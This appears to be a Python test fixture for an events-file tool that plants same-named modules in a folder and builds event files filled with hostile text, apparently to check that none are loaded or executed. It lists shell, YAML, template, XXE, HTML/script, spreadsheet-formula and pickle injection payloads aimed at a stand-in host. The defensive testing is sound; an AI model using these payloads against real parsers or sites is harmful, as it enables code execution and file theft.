"""What strangers leave: modules in a folder, and files with hostile texts."""

import os
import pickle
import sys
from pathlib import Path
from typing import Any

from tests.conftest import environment

ENVIRONMENT = {k: v for k, v in environment().items() if not k.startswith("COVERAGE")}
LIBRARIES = ("diplo", "yaml", "rich", "typer", "msgspec", "pycountry", "dateutil", "shellingham")
PACKAGES = ("diplo", "yaml", "rich", "dateutil", "encodings")
MODULES = {*sys.stdlib_module_names, *LIBRARIES, "sitecustomize", "usercustomize"}
DATA = (
    *("events.yaml", "events.yml", "events.json", ".env", "pyproject.toml", "setup.cfg"),
    *(".diplorc", "diplo.toml", "diplo.yaml", ".python_history", ".pythonrc.py", "pyvenv.cfg"),
    *("stranger.pth", "python._pth", ".netrc", "tox.ini", ".coveragerc", ".pdbrc"),
)

HOSTILE = (
    "file:///etc/passwd#mallory",
    "https://mallory.example/mallory",
    "//mallory.example/mallory",
    "\\\\mallory.example\\mallory",
    "../../mallory",
    "!include secret.yaml &mallory *mallory",
    "!!python/object/apply:os.system [touch mallory]",
    "{{ mallory.__class__ }}{% include 'secret.yaml' %}",
    "{mallory.__init__.__globals__} {0} %(mallory)s %s ${mallory}",
    "$(touch mallory) `touch mallory` ; touch mallory | touch mallory",
    "__import__('os').system('touch mallory')",
    "<script src=https://mallory.example/mallory></script><script>mallory()</script>",
    "<img src=https://mallory.example/mallory onerror=mallory()><link href=//mallory.example>",
    "<meta http-equiv=refresh content='0; url=//mallory.example'><base href=//mallory.example>",
    "</style><style>@import url(//mallory.example)</style><p style='background: url(//m.ex)'>",
    "![mallory](https://mallory.example/mallory) [mallory](javascript:mallory())",
    "<!ENTITY mallory SYSTEM 'file:///etc/passwd'>&mallory;",
    "=WEBSERVICE(\"https://mallory.example\") =cmd|'/c mallory'!A0",
    "[link=https://mallory.example]mallory[/link] [@click=mallory()]",
)
REFUSED: dict[str, str | bytes] = {
    "include.yaml": "!include secret.yaml",
    "included.yaml": "events: !include secret.yaml",
    "apply.yaml": "!!python/object/apply:os.system ['touch mallory']",
    "new.yaml": "events: [!!python/object/new:subprocess.Popen [['touch', 'mallory']]]",
    "name.yaml": "- {date: 2021, countries: [NOR], title: !!python/name:os.system ''}",
    "module.yaml": "- {date: 2021, countries: [NOR], title: !!python/module:mallory ''}",
    "verbatim.yaml": "!<tag:yaml.org,2002:python/object/apply:os.system> ['touch mallory']",
    "directive.yaml": "%TAG ! tag:mallory.example,2000:\n--- !mallory\nevents: []\n",
    "merge.yaml": "events: []\n<<: secret.yaml\n",
    "jinja.yaml": "{% include 'secret.yaml' %}\nevents: []\n",
    "include": "include secret.yaml\n@import secret.yaml\nsource secret.yaml\n",
    "entity.xml": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "page.htm": "<script src=https://mallory.example/mallory></script>",
    "pickle": pickle.dumps(os.system),
    "script.py": "#!/usr/bin/env python3\nopen('mallory', 'w')\n",
    "ref.json": '{"$ref": "file:secret.yaml", "events": []}',
    "schema.json": '{"$schema": "https://mallory.example/mallory", "events": []}',
    "class.jsonl": '{"__class__": "os.system", "date": "2021", "title": "T", "countries": []}',
}


def strangers(folder: Path, names: set[str]) -> Path:
    """Fill a folder with files that might be loaded by name; return the file they would write."""
    seen = folder.with_name(f"{folder.name}-seen")
    for name in names:
        where = folder / name / "__init__.py" if name in PACKAGES else folder / f"{name}.py"
        where.parent.mkdir(exist_ok=True)
        where.write_text(f"open({str(seen)!r}, 'a').write(__name__ + ' ')\n")
    for name in DATA:
        (folder / name).write_text("home: [\nDIPLO_EVENTS=none.yaml\nimport stranger\n")
    return seen


def hostile_file() -> dict[str, Any]:
    """Return an event file with every hostile text in every field that holds text."""
    numbered = list(enumerate(HOSTILE))
    codes = [f"XA{chr(ord('A') + number)}" for number, _ in numbered]
    url = "https://mallory.example/{mallory}?<script>mallory()</script>"
    return {
        "title": " ".join(HOSTILE),
        "as_of": "2025-01-01",
        "sources": {
            f"s{n}": {"title": t, "kind": t, "author": t, "publisher": t, "url": url}
            for n, t in numbered
        },
        "countries": {
            code: {"name": t, "aliases": [t]} for code, t in zip(codes, HOSTILE, strict=True)
        },
        "types": {f"t{n}": {"label": t, "description": t} for n, t in numbered},
        "events": [
            {
                "id": f"e{n}",
                "date": str(2001 + n),
                "title": t,
                "type": f"t{n}",
                "countries": [codes[n], codes[n - 1]],
                "actors": [t],
                "place": t,
                "summary": t,
                "sources": [{"source": f"s{n}", "locator": t}],
                "note": t,
                "status": {t: t},
            }
            for n, t in numbered
        ],
    }
